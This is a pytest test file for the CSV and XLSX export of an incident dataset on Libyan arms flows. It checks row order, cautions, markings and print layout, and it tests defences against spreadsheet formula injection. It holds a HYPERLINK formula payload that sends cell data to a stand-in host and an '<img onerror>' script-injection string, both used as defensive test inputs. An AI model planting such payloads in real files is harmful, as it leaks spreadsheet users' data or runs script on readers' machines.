"""The rows shown, as CSV and XLSX: the same incidents, the same order, nothing that runs."""

import csv
import io
import re
from collections import Counter
from dataclasses import replace

import openpyxl
import pytest

from armsflow.briefing import briefing, tables
from armsflow.dataset import engine
from armsflow.dataset.dataset import labels
from armsflow.selection import selection
from armsflow.selection.selection import Selection
from tests.browser.recount import DATA, _span
from tests.choices import random_selections

STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '{}HYPERLINK("https://example.org/?"&A1,"1\'+1")'
STRANGE = (
    "$x^2$ costs $5, or \\$5",
    "<img src=x onerror=alert(1)> & \"quotes\" 'and' <!-- -->",
    "\u202eمرحبا\u202c עברית",
    "🚀👩‍🚀 zero\u200bwidth \ufeffmark",
    "next\u0085line \u009b1m",
    "x" * 10_000,
)


def read_csv(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def titles_of(book):
    columns = book["Incidents"].iter_cols(values_only=True)
    return next(cells for heading, *cells in columns if heading == "Incident")


def raw_incidents():
    with (DATA / "incidents.csv").open(encoding="utf-8", newline="") as file:
        return {row["incident_id"]: row for row in csv.DictReader(file)}


def with_titles(small, *titles):
    """The tiny dataset with other texts in every cell that an editor writes."""
    tables = {name: small.engine.tables[name].copy() for name in engine.TABLES}
    incidents, items, sources = tables["incidents"], tables["items"], small.sources.copy()
    for place, title in enumerate(titles):
        for column in ("title", "summary", "place"):
            incidents.iloc[place, incidents.columns.get_loc(column)] = title
    items["designation"] = [titles[row % len(titles)] for row in range(len(items))]
    for column in ("publisher", "title"):
        sources[column] = [titles[row % len(titles)] for row in range(len(sources))]
    return replace(small, engine=engine.InMemory(tables), sources=sources)


@pytest.fixture(scope="module")
def choices(shipped):
    return [
        selection.default_selection(shipped),
        Selection(),
        Selection(weapon=("manpads",), destinations=("sinai",), years=(2011, 2014)),
        *random_selections(shipped, 4, seed=3),
    ]


def test_the_rows_are_the_shown_incidents_in_the_order_of_the_page(choices, shipped):
    raw = raw_incidents()
    for chosen in choices:
        shown = selection.apply(shipped, chosen)
        rows = read_csv(tables.csv_file(shown))
        assert [row["Id"] for row in rows] == list(shown.incidents.index)
        for row in rows:
            incident = raw[row["Id"]]
            assert (row["Date"], row["Date to"]) == (incident["date"], incident["date_end"])
            assert (row["First day"], row["Last day"]) == _span(incident)
            assert (
                len(incident["date"])
                == {"year": 4, "month": 7, "day": 10}[row["Date known to the"]]
            )
            assert row["Incident"] == incident["title"]
            assert row["Summary"] == incident["summary"]
            assert row["Corridor"] == incident["corridor_id"]
            cited = [row["Sources"].count(shipped.sources.url[source]) > 0
                     for source in incident["source_ids"].split(";")]  # fmt: skip
            assert all(cited)


def test_the_workbook_holds_the_same_cells_as_the_csv(choices, shipped):
    for chosen in choices[1:3]:
        shown = selection.apply(shipped, chosen)
        book = read_xlsx(tables.xlsx_file(shown, []))
        header, *rows = book["Incidents"].iter_rows(values_only=True)
        plain = read_csv(tables.csv_file(shown))
        assert list(header) == list(plain[0])
        for written, row in zip(rows, plain, strict=True):
            for cell, text in zip(written, row.values(), strict=True):
                if isinstance(cell, int | float):
                    assert cell == float(text)
                else:
                    assert (cell or "") == text


def test_items_stand_in_the_row_as_the_source_states_them(small):
    rows = {row["Id"]: row for row in read_csv(tables.csv_file(small))}
    raid = rows["2013-01-16-raid"]
    assert raid["Weapons as stated"] == (
        "Kalashnikov: about 20 weapons; Shoulder-fired missiles: number not stated"
    )
    assert raid["Counted as"] == labels(small, "incidents", "scope")["event"]
    assert raid["Destination"] == "Algeria"
    assert (float(raid["Latitude"]), float(raid["Longitude"])) == (28.05, 9.56)
    assert raid["Sources"].startswith("AFP, “Raid on the gas plant”, 17 January 2013. https://")


def test_no_caution_on_what_was_found_is_lost(choices, shipped):
    for chosen in choices[:2]:
        shown = selection.apply(shipped, chosen)
        rows = {row["Id"]: row for row in read_csv(tables.csv_file(shown))}
        notes = shown.items[shown.items["note"] != ""]
        assert len(notes)
        for item in notes.to_dict("records"):
            assert item["note"] in rows[item["incident_id"]]["Cautions"]
        plain = set(rows) - set(notes["incident_id"])
        assert {rows[one]["Cautions"] for one in plain} == {""}


def test_what_is_part_of_another_row_or_its_alternative_is_said(shipped):
    words = labels(shipped, "items", "counting")
    rows = {row["Id"]: row for row in read_csv(tables.csv_file(shipped))}
    seen = Counter()
    for item in shipped.items.to_dict("records"):
        stated = rows[item["incident_id"]]["Weapons as stated"]
        seen[item["counting"]] += 1
        if item["counting"] != "own":
            assert f" — {words[item['counting']].lower()}" in stated
    assert len(seen) > 1
    assert not any(words["own"].lower() in row["Weapons as stated"] for row in rows.values())


@pytest.mark.parametrize("marking", ["OFFICIAL & TEST", "رسمي"])
def test_a_marking_is_in_every_row_on_the_second_sheet_and_on_every_printed_page(
    marking, shipped, plate
):
    chosen = Selection(weapon=("manpads",))
    prepared = briefing.prepare(chosen, shipped, plate, marking=marking)
    makers = briefing.writers(None)
    rows = read_csv(makers["csv"](prepared))
    assert {row["Marking"] for row in rows} == {marking}
    book = read_xlsx(makers["xlsx"](prepared))
    [*_, last] = book["Incidents"].iter_cols(values_only=True)
    assert set(last) == {"Marking", marking}
    assert dict(book["About"].iter_rows(values_only=True))["Marking"] == marking
    for sheet in book:
        for line in (sheet.oddHeader, sheet.oddFooter):
            assert line.center.text == marking.replace("&", "&&")
    assert briefing.file_name(prepared, "csv").startswith("-".join(re.findall(r"\w+", marking)))


def test_nothing_is_marked_that_has_no_marking(shipped, plate):
    prepared = briefing.prepare(Selection(weapon=("manpads",)), shipped, plate)
    makers = briefing.writers(None)
    assert "Marking" not in read_csv(makers["csv"](prepared))[0]
    book = read_xlsx(makers["xlsx"](prepared))
    assert "Marking" not in dict(book["About"].iter_rows(values_only=True))
    assert book["Incidents"].oddHeader.center.text is None
    assert briefing.file_name(prepared, "csv").startswith("libya-arms-flows")


def test_a_workbook_prints_across_the_page_with_its_headings_on_each(shipped):
    book = read_xlsx(tables.xlsx_file(shipped, []))
    sheet = book["Incidents"]
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_cols == "$A:$A"
    widths = [column.width for column in sheet.column_dimensions.values()]
    # A page across holds about 150 letters of the usual size: six tenths of it are still read.
    assert sum(widths) / sheet.page_setup.fitToWidth < 150 / 0.6


def test_a_workbook_of_all_rows_prints_on_few_pages(shipped):
    sheet = read_xlsx(tables.xlsx_file(shipped, []))["Incidents"]
    widths = [column.width for column in sheet.column_dimensions.values()]
    across = sheet.page_setup.fitToWidth
    inches = sum(row.height for row in sheet.row_dimensions.values()) / 72
    # Of a sheet of A4, less its edges; a letter of the usual size is 7/96 of an inch wide.
    share = (11.7 - 2 * tables.EDGE) * across / (sum(widths) * 7 / 96)
    high = 8.3 - 4 * tables.EDGE
    assert across * inches * share / high / len(shipped.incidents) < 0.35
    assert {cell.alignment.wrap_text for cell in sheet[1]} == {True}


def test_rows_have_room_for_the_lines_that_their_words_take(shipped):
    sheet = read_xlsx(tables.xlsx_file(shipped, []))["Incidents"]
    room = [column.width for column in sheet.column_dimensions.values()]
    tight = [
        cell.coordinate
        for cells in sheet.iter_rows(min_row=2)
        for cell, width in zip(cells, room, strict=False)
        # Letters are a tenth smaller than those that the width of a column counts.
        for height in (sheet.row_dimensions[cell.row].height,)
        if len(str(cell.value or "")) / (1.1 * width) * tables.LINE > height < tables.HIGHEST
    ]
    assert tight == []
    about = read_xlsx(tables.xlsx_file(shipped, [("Note", "word " * 200)]))["About"]
    assert about.row_dimensions[1].height >= 1000 / about.column_dimensions["B"].width * tables.LINE


def test_every_cell_of_the_rows_is_wrapped_and_begins_at_the_top(shipped):
    sheet = read_xlsx(tables.xlsx_file(shipped, ()))["Incidents"]
    laid_out = [cell.alignment for cells in sheet.iter_rows(min_row=2) for cell in cells]
    assert len(laid_out) > len(shipped.incidents)
    assert {(one.wrap_text, one.vertical) for one in laid_out} == {(True, "top")}


def test_a_selection_without_incidents_gives_a_header_alone(shipped):
    nothing = Selection(weapon=("manpads",), destinations=("tunisia",), years=(2023, 2024))
    shown = selection.apply(shipped, nothing)
    assert len(shown.incidents) == 0
    lines = tables.csv_file(shown).decode("utf-8-sig").splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("Id,Date,")
    assert read_xlsx(tables.xlsx_file(shown, []))["Incidents"].max_row == 1


def test_a_spreadsheet_reads_the_accents(shipped):
    content = tables.csv_file(selection.apply(shipped, Selection()))
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Algérie" in content.decode("utf-8-sig")


def test_the_same_rows_give_the_same_csv(choices, shipped):
    first, again = (tables.csv_file(selection.apply(shipped, choices[3])) for _ in range(2))
    assert first == again


def test_the_second_sheet_says_what_the_rows_are(shipped, plate):
    chosen = Selection(weapon=("manpads",), years=(2012, 2014))
    prepared = briefing.prepare(chosen, shipped, plate, "https://example.org/flows")
    words = briefing.briefing_words(prepared)
    book = read_xlsx(tables.xlsx_file(prepared.shown, words))
    about = dict(book["About"].iter_rows(values_only=True))
    sentence = prepared.picture.sentence
    assert about["Finding"] == sentence.headline
    assert about["Counts"] == sentence.counts
    assert about["Filters"] == sentence.filters
    assert about["Data"].startswith(f"Data {shipped.version}")
    assert about["Picture number"] == prepared.caption.number
    assert about["View"] == prepared.caption.address
    [licence] = shipped.descriptor["licenses"]
    assert licence["title"] in about["Licence"]
    assert licence["path"] in about["Licence"]
    assert about["Citation"] == briefing.citation_words(prepared)
    for note in prepared.picture.notes:
        assert note in about["Note"]


# ---------------------------------------------------------------- nothing runs


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_text_that_a_spreadsheet_would_run_is_plain_text_in_a_workbook(start, small):
    text = HOSTILE.format(start)
    hostile = with_titles(small, *[text] * 5)
    book = read_xlsx(tables.xlsx_file(hostile, [("Finding", text)]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    dangerous = [
        cell.coordinate
        for cell in cells
        if cell.data_type == "f" or (cell.data_type == "s" and cell.value.startswith(STARTS))
    ]
    assert dangerous == []
    assert sum(text.rstrip() in str(cell.value) for cell in cells) >= 5 * 3 + 1


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_text_that_a_spreadsheet_would_run_is_plain_text_in_csv(start, small):
    text = HOSTILE.format(start)
    rows = read_csv(tables.csv_file(with_titles(small, *[text] * 5)))
    assert [row["Incident"] for row in rows] == [f"'{text}"] * 5
    runs = [
        (heading, cell)
        for row in rows
        for heading, cell in row.items()
        if cell.startswith(STARTS) and not _is_number(cell)
    ]
    assert runs == []


def test_numbers_below_zero_stay_numbers(small):
    [gao] = [row for row in read_csv(tables.csv_file(small)) if row["Place"] == "Gao"]
    assert gao["Longitude"] == "-0.04"
    book = read_xlsx(tables.xlsx_file(small, []))
    longitudes = [cell for column in book["Incidents"].iter_cols() for cell in column[1:]
                  if column[0].value == "Longitude"]  # fmt: skip
    assert {cell.data_type for cell in longitudes} == {"n"}
    assert -0.04 in [cell.value for cell in longitudes]


def test_strange_texts_arrive_as_they_are(small):
    strange = with_titles(small, *STRANGE[:5])
    rows = read_csv(tables.csv_file(strange))
    assert [row["Incident"] for row in rows] == list(STRANGE[:5])
    book = read_xlsx(tables.xlsx_file(strange, []))
    assert titles_of(book) == list(STRANGE[:5])


def test_a_text_of_ten_thousand_letters_arrives_whole(small):
    rows = with_titles(small, *[STRANGE[5]] * 5)
    assert {row["Incident"] for row in read_csv(tables.csv_file(rows))} == {STRANGE[5]}
    book = read_xlsx(tables.xlsx_file(rows, []))
    assert set(titles_of(book)) == {STRANGE[5]}


def test_the_quotation_marks_of_a_cell_do_not_end_it(small):
    text = 'He said "no", then;left\'s'
    [row, *_] = read_csv(tables.csv_file(with_titles(small, text)))
    assert (row["Incident"], row["Place"]) == (text, text)


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True
